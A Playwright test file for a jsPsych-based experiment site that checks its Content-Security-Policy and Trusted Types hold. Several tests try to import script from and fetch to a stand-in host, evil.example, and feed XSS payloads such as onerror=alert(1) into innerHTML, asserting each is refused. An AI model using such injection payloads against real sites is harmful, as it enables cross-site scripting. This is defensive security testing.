import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import AxeBuilder from "@axe-core/playwright";
import { expect, test, type Page } from "@playwright/test";

const dist = join(import.meta.dirname, "../../dist");
const files = readdirSync(dist, { recursive: true, encoding: "utf8" });
const pages = ["index.html", "run.html"];

test("the built pages allow their own files and nothing unsafe; no worker makes code of text", () => {
  expect(files.filter((file) => file.endsWith(".html")).sort()).toEqual(pages);
  for (const page of pages) {
    const html = readFileSync(join(dist, page), "utf8");
    const policy = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html)?.[1] ?? "";
    expect(policy).toMatch(/default-src 'none'; script-src 'self'; style-src 'self';/);
    expect(policy).not.toMatch(/unsafe|https?:|\*|eval/);
    expect(html.indexOf("Content-Security-Policy")).toBeLessThan(html.search(/<(script|link)\b/));
    expect(html.match(/<script(?![^>]*\bsrc=)|<style\b|\sstyle=|\son\w+=/g)).toBeNull();
  }
  const workers = files.filter((file) => /worker[^/]*\.js$/.test(file));
  expect(workers.length).toBeGreaterThan(0);
  for (const worker of workers) {
    // A page's policy does not reach into its workers: they must not need one.
    expect(readFileSync(join(dist, worker), "utf8")).not.toMatch(
      /\beval\(|importScripts|setTimeout\(["'`]|https?:\/\/(?!www\.w3\.org)/,
    );
  }
});

/** What the page's policy refuses when script on it tries. */
async function refused(page: Page): Promise<readonly string[]> {
  return page.evaluate(async () => {
    const found = new Set<string>();
    document.addEventListener(
      "securitypolicyviolation",
      ({ effectiveDirective }) => void found.add(effectiveDirective),
    );
    const add = (tag: string, attributes: Readonly<Record<string, string>>, text = "") => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = text;
      document.body.append(element);
    };
    const inline = document.createElement("script");
    inline.append("globalThis.owned = true");
    document.body.append(inline);
    const foreign = "https://evil.example/x.js";
    await import(/* @vite-ignore */ foreign).catch(() => undefined);
    add("img", { src: "https://evil.example/x.png" });
    add("iframe", { src: "https://evil.example/" });
    add("style", {}, "body { display: none }");
    await fetch("https://evil.example/").catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return [...found, ...("owned" in globalThis ? ["OWNED"] : [])].sort();
  });
}

for (const address of ["/", "/run.html"]) {
  test(`script on ${address} can load, send and run nothing from elsewhere`, async ({ page }) => {
    await page.goto(address);
    await expect(page.locator("h1").first()).toBeVisible();
    const found = await refused(page);
    for (const directive of ["connect-src", "frame-src", "img-src", "script-src-elem", "style-src-elem"]) {
      expect(found).toContain(directive);
    }
    expect(found).not.toContain("OWNED");
  });
}

/** What becomes of each way to give the page a text as markup, script or the address of a script. */
async function ways(page: Page): Promise<Readonly<Record<string, string>>> {
  return page.evaluate(() => {
    const tried: Record<string, string> = {};
    const attempt = (name: string, act: () => unknown) => {
      try {
        act();
        tried[name] = "went through";
      } catch (error) {
        tried[name] = error instanceof TypeError ? "refused" : String(error);
      }
    };
    const host = document.createElement("div");
    const wrapper = '<div id="jspsych-html-keyboard-response-stimulus">';
    attempt("markup", () => (host.innerHTML = "<b>b</b>"));
    attempt("picture", () => (host.innerHTML = "<img src=x onerror=alert(1)>"));
    attempt("in a page of jsPsych", () => (host.innerHTML = `${wrapper}<img src=x onerror=alert(1)></div>`));
    attempt("after a page of jsPsych", () => (host.innerHTML = `${wrapper}</div>\n<b>b</b>`));
    attempt("empty page of jsPsych", () => (host.innerHTML = `${wrapper}</div>`));
    attempt("beside", () => {
      host.insertAdjacentHTML("beforeend", "<b>b</b>");
    });
    attempt("document", () => new DOMParser().parseFromString("<b>b</b>", "text/html"));
    attempt("frame", () => (document.createElement("iframe").srcdoc = "<b>b</b>"));
    attempt("script", () => (document.createElement("script").src = "assets.json"));
    attempt("text of a script", () => (document.createElement("script").text = "1"));
    attempt("handler", () => {
      host.setAttribute("onclick", "alert(1)");
    });
    attempt("worker", () => new Worker("assets/run.js"));
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): object };
    };
    const rules = { createHTML: (text: string) => text };
    attempt("rules of one's own", () => trustedTypes.createPolicy("mine", rules));
    attempt("other rules", () => trustedTypes.createPolicy("default", rules));
    return tried;
  });
}

for (const address of ["/", "/run.html"]) {
  test(`on ${address} no text becomes markup or script, but what its own libraries need`, async ({
    page,
  }) => {
    await page.goto(address);
    await expect(page.locator("h1").first()).toBeVisible();
    const tried = await ways(page);
    const { "empty page of jsPsych": empty, ...rest } = tried;
    expect(Object.keys(rest)).toHaveLength(13);
    for (const [name, outcome] of Object.entries(rest)) expect(outcome, name).toBe("refused");
    expect(empty).toBe(address === "/" ? "refused" : "went through");
  });
}

test("behind a passphrase the way back from a visit leads to the lock, and the page of a visit needs none", async ({
  page,
}) => {
  const passphrase = "lamp river stone cup";
  await page.goto("/#/storage");
  await page.getByRole("button", { name: "Set a passphrase …" }).click();
  await page.getByLabel("New passphrase", { exact: true }).fill(passphrase);
  await page.getByLabel("New passphrase once more").fill(passphrase);
  await page.getByRole("button", { name: "Set it" }).click();
  await expect(page.getByRole("button", { name: "Lock", exact: true })).toBeVisible();
  await page.goto(
    "/run.html?task=prt&preset=demo&PROLIFIC_PID=5f1e-secret&mode=pilot&participant=p1&speed=100&agent=healthy",
  );
  await expect(page.locator('[data-page="end"], [data-page="finished"], #stage h1').first()).toBeVisible({
    timeout: 60_000,
  });
  await page.goBack();
  await expect(page.getByRole("heading", { name: "This desk is locked" })).toBeVisible();
  expect((await new AxeBuilder({ page }).analyze()).violations.map(({ id }) => id)).toEqual([]);
  await expect
    .poll(() =>
      page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            const opening = indexedDB.open("valence");
            opening.onsuccess = () => {
              const all = opening.result.transaction("links").objectStore("links").getAll();
              all.onsuccess = () => {
                opening.result.close();
                resolve(JSON.stringify(all.result));
              };
            };
          }),
      ),
    )
    .toContain('"sealed":1');
  await page.getByLabel("Passphrase of the desk").fill(passphrase);
  await page.getByRole("button", { name: "Unlock" }).click();
  await expect(page.getByRole("heading", { name: "Storage", level: 1 })).toBeVisible();
});
